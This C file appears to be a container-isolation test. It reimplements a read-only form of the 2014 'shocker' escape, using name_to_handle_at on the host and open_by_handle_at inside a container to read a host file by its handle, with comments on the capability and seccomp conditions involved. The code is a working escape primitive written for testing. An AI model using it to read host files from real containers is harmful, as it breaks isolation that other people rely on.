// The "shocker" escape (2014), reading only: a file handle names a file by its inode,
// not by its path, so opening one is not bound by the container's root. Any fd on the
// same filesystem serves as the "mount" to open it from, and the container's "/" is a
// directory of the host's disk. The kernel only asks for CAP_DAC_READ_SEARCH, which
// stage 5 and 6 containers have (every capability); Docker does not give it, and its
// seccomp profile refuses open_by_handle_at besides.
//
// The original guessed the handle, walking the host's tree from inode 2 (the root of an
// ext4 filesystem). Here the host side prints the handle of a file it made, so that the
// test reads that one file and nothing else.
//
// Build: cc -static -o open-by-handle open-by-handle.c
// Use:   open-by-handle handle FILE       (on the host) prints FILE's handle: TYPE:HEX
//        open-by-handle read TYPE:HEX     (in the container) prints the file it names
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#define MAX_HANDLE_BYTES 128

static int print_handle(const char *path) {
  struct file_handle *handle = malloc(sizeof *handle + MAX_HANDLE_BYTES);
  handle->handle_bytes = MAX_HANDLE_BYTES;
  int mount_id;
  if (name_to_handle_at(AT_FDCWD, path, handle, &mount_id, 0) != 0) {
    perror("name_to_handle_at");
    return 1;
  }
  printf("%d:", handle->handle_type);
  for (unsigned i = 0; i < handle->handle_bytes; i++) printf("%02x", handle->f_handle[i]);
  printf("\n");
  return 0;
}

static int read_by_handle(const char *text) {
  struct file_handle *handle = malloc(sizeof *handle + MAX_HANDLE_BYTES);
  char *hex;
  handle->handle_type = (int)strtol(text, &hex, 10);
  if (*hex++ != ':' || strlen(hex) % 2 != 0 || strlen(hex) / 2 > MAX_HANDLE_BYTES) {
    fprintf(stderr, "not a handle: %s (want TYPE:HEX)\n", text);
    return 2;
  }
  handle->handle_bytes = strlen(hex) / 2;
  for (unsigned i = 0; i < handle->handle_bytes; i++) sscanf(hex + 2 * i, "%2hhx", &handle->f_handle[i]);

  // The container's root: a directory of the host's filesystem, the "mount" to open from.
  int mount_fd = open("/", O_RDONLY | O_DIRECTORY);
  int fd = open_by_handle_at(mount_fd, handle, O_RDONLY);
  if (fd < 0) {
    perror("open_by_handle_at");
    return 1;
  }
  char buffer[4096];
  ssize_t count;
  while ((count = read(fd, buffer, sizeof buffer)) > 0) fwrite(buffer, 1, (size_t)count, stdout);
  return 0;
}

int main(int argc, char *argv[]) {
  if (argc == 3 && strcmp(argv[1], "handle") == 0) return print_handle(argv[2]);
  if (argc == 3 && strcmp(argv[1], "read") == 0) return read_by_handle(argv[2]);
  fprintf(stderr, "usage: %s handle FILE | %s read TYPE:HEX\n", argv[0], argv[0]);
  return 2;
}
